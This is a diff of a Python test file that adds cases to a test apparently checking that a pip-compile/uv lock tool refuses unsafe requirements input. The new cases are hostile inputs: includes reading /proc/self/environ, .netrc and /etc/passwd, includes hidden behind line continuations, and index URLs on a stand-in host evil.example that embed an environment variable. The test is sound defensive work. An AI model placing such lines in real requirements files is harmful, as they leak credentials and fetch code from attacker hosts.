@@ -106,6 +106,28 @@ def test_what_limits_itself_by_another_output_follows_it(index: PythonIndex, too
         ({"requirements.in": "git+https://evil.example/a.git\nred\n"}, "would have to be built"),
         ({"requirements.in": "-e .\nred\n"}, "sets -e"),
         ({"requirements.in": "./a\nred\n"}, "would have to be built"),
+        ({"requirements.in": "red@file:a.zip\n"}, "would have to be built"),
+        ({"requirements.in": "red @ https:/evil.example/a.zip\n"}, "would have to be built"),
+        ({"requirements.in": "deps/a.zip\nred\n"}, "would have to be built"),
+        ({"requirements.in": "-r /proc/self/environ\nred\n"}, "no file of the repository"),
+        ({"requirements.in": "-r ../home/.netrc\nred\n"}, "no file of the repository"),
+        ({"requirements.in": "-c file:///etc/passwd\nred\n"}, "no file of the repository"),
+        ({"requirements.in": "-r ${HOME}/.netrc\nred\n"}, "no file of the repository"),
+        ({"requirements.in": "--requirement=/etc/passwd\nred\n"}, "no file of the repository"),
+        ({"requirements.in": "-r/etc/passwd\nred\n"}, "no file of the repository"),
+        ({"requirements.in": "-r https://evil.example/a.txt\nred\n"}, "no file of the repository"),
+        ({"requirements.in": "-r \\\n/etc/passwd\nred\n"}, "no file of the repository"),
+        ({"requirements.in": "# a \\\n-r /etc/passwd\nred\n"}, "no file of the repository"),
+        ({"requirements.in": "red # a \\\n-r /etc/passwd\n"}, "no file of the repository"),
+        ({"requirements.in": "--hash=sha256:a -r /etc/passwd\nred\n"}, "is not followed here"),
+        ({"pins": "-r /proc/self/environ\n"}, "no file of the repository"),
+        ({"pins": "--requir /proc/self/environ\n"}, "sets --requir"),
+        ({"requirements.in": "--pre -r /etc/passwd\nred\n"}, "is not followed here"),
+        ({"requirements.in": "-i https://evil.example/${HTTPS_PROXY}/\nred\n"}, "takes packages from"),
+        ({"requirements.in": "-f /etc\nred\n"}, "takes packages from"),
+        ({"requirements.in": "--extra-index-url file:///etc\nred\n"}, "takes packages from"),
+        ({"command": "uv pip compile --find-links /etc requirements.in"}, "takes packages from"),
+        ({"command": "pip-compile -i file:///etc requirements.in"}, "takes packages from"),
         ({"command": "pip-compile --pip-args='--no-deps' requirements.in"}, "compiled with --pip-args"),
         ({"command": "pip-compile --config=evil.toml requirements.in"}, "compiled with --config"),
         ({"command": "pip-compile --extra --config requirements.in"}, "compiled with --extra --config"),
@@ -120,7 +142,7 @@ def test_what_would_run_or_loosen_something_is_refused(change: Mapping[str, str]
     text = TOOLS[tool][0].format(command=change.get("command", f"{tool} requirements.in"))
     files = {
         "requirements.in": change.get("requirements.in", "red\n"),
-        "requirements.txt": f"{text}red==1.0\n    # via -r requirements.in\n",
+        "requirements.txt": f"{text}{change.get('pins', '')}red==1.0\n    # via -r requirements.in\n",
     }
     made = written(
         files, locker("pip-compile", "uv"), move(as_snapshot(files), "red", "1.1", locks=["requirements.txt"])
